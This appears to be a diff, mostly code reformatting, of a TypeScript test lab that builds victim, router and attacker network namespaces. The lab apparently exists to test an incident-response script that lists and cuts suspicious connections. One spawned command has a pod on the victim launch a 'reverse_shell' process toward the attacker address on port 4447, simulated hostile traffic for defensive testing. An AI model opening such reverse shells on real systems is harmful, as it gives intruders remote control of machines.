@@ -122,7 +122,8 @@ export class Lab {
       [victim, 'eth0', [`${VICTIM}/24`, '2001:db8:1::10/64']],
     ];
     for (const [name, link, list] of addresses) {
-      for (const address of list) run(['ip', '-n', name, 'addr', 'add', address, 'dev', link, ...(address.includes(':') ? ['nodad'] : [])]);
+      for (const address of list)
+        run(['ip', '-n', name, 'addr', 'add', address, 'dev', link, ...(address.includes(':') ? ['nodad'] : [])]);
       run(['ip', '-n', name, 'link', 'set', link, 'up']);
     }
     for (const [name, four, six] of [
@@ -132,10 +133,7 @@ export class Lab {
       run(['ip', '-n', name, 'route', 'add', 'default', 'via', four]);
       run(['ip', '-n', name, '-6', 'route', 'add', 'default', 'via', six]);
     }
-    run([
-      'ip', 'netns', 'exec', router, 'sysctl', '-qw',
-      'net.ipv4.ip_forward=1', 'net.ipv6.conf.all.forwarding=1',
-    ]);
+    run(['ip', 'netns', 'exec', router, 'sysctl', '-qw', 'net.ipv4.ip_forward=1', 'net.ipv6.conf.all.forwarding=1']);
     run(['ip', 'netns', 'exec', router, 'nft', '-f', '-'], SECURITY_GROUP);
 
     await this.#startVictim(victim);
@@ -162,7 +160,21 @@ export class Lab {
     ].join(' && ');
     let ready = false;
     const child = this.#spawn(
-      ['ip', 'netns', 'exec', netns, 'unshare', '--mount', '--pid', '--fork', '--mount-proc', '--kill-child', 'sh', '-c', setup],
+      [
+        'ip',
+        'netns',
+        'exec',
+        netns,
+        'unshare',
+        '--mount',
+        '--pid',
+        '--fork',
+        '--mount-proc',
+        '--kill-child',
+        'sh',
+        '-c',
+        setup,
+      ],
       (line) => {
         ready ||= line === 'ready';
       },
@@ -176,7 +188,21 @@ export class Lab {
   /** Packets that reach the attacker's interface from the victim, as tcpdump prints them. */
   #capture(netns: string): void {
     this.#spawn(
-      ['ip', 'netns', 'exec', netns, 'tcpdump', '-n', '-tt', '-l', '-U', '--immediate-mode', '-i', 'eth0', 'inbound and (tcp or udp)'],
+      [
+        'ip',
+        'netns',
+        'exec',
+        netns,
+        'tcpdump',
+        '-n',
+        '-tt',
+        '-l',
+        '-U',
+        '--immediate-mode',
+        '-i',
+        'eth0',
+        'inbound and (tcp or udp)',
+      ],
       (line) => this.packets.push({ t: Number.parseFloat(line), text: line }),
     );
   }
@@ -205,7 +231,9 @@ export class Lab {
 
   /** Starts one of the processes of peers.py on the victim. */
   start(what: string, ...args: readonly (string | number)[]): void {
-    this.#spawn(this.#inVictim([PYTHON, '-u', PEERS, what, ...args.map(String)]), (line) => this.events.push(JSON.parse(line) as PeerEvent));
+    this.#spawn(this.#inVictim([PYTHON, '-u', PEERS, what, ...args.map(String)]), (line) =>
+      this.events.push(JSON.parse(line) as PeerEvent),
+    );
   }
 
   startShell(command: string): void {
@@ -213,7 +241,10 @@ export class Lab {
   }
 
   startAgent(): void {
-    this.#spawn(this.#inVictim(['/usr/bin/amazon-ssm-agent', '-u', PEERS, 'agent', AGENT_ENDPOINT, '443']), () => undefined);
+    this.#spawn(
+      this.#inVictim(['/usr/bin/amazon-ssm-agent', '-u', PEERS, 'agent', AGENT_ENDPOINT, '443']),
+      () => undefined,
+    );
   }
 
   /** A container on the victim: a namespace of its own behind the victim's address. */
@@ -230,7 +261,10 @@ export class Lab {
         'nft add rule ip nat post ip saddr 172.18.0.0/24 masquerade',
       ].join(' && '),
     );
-    this.#spawn(this.#inVictim(['ip', 'netns', 'exec', 'pod', PYTHON, '-u', PEERS, 'reverse_shell', ATTACKER, '4447']), () => undefined);
+    this.#spawn(
+      this.#inVictim(['ip', 'netns', 'exec', 'pod', PYTHON, '-u', PEERS, 'reverse_shell', ATTACKER, '4447']),
+      () => undefined,
+    );
   }
 
   /** The attacker logs in on the victim's port 22. */
@@ -311,8 +345,19 @@ export class Lab {
   }
 
   #scriptCommand(verb: string, { shell = ['sh'], remote = ATTACKER, environment = {} }: ScriptOptions): string[] {
-    const variables = { SSM_Verb: verb, SSM_CaseId: 'case-1', SSM_RemoteAddresses: remote, SSM_Pids: 'none', ...environment };
-    return this.#inVictim(['env', ...Object.entries(variables).map(([name, value]) => `${name}=${value}`), ...shell, SCRIPT]);
+    const variables = {
+      SSM_Verb: verb,
+      SSM_CaseId: 'case-1',
+      SSM_RemoteAddresses: remote,
+      SSM_Pids: 'none',
+      ...environment,
+    };
+    return this.#inVictim([
+      'env',
+      ...Object.entries(variables).map(([name, value]) => `${name}=${value}`),
+      ...shell,
+      SCRIPT,
+    ]);
   }
 
   #parse(verb: 'list' | 'cut' | 'verify' | 'undo', raw: string, startedAt: number): CutResult {
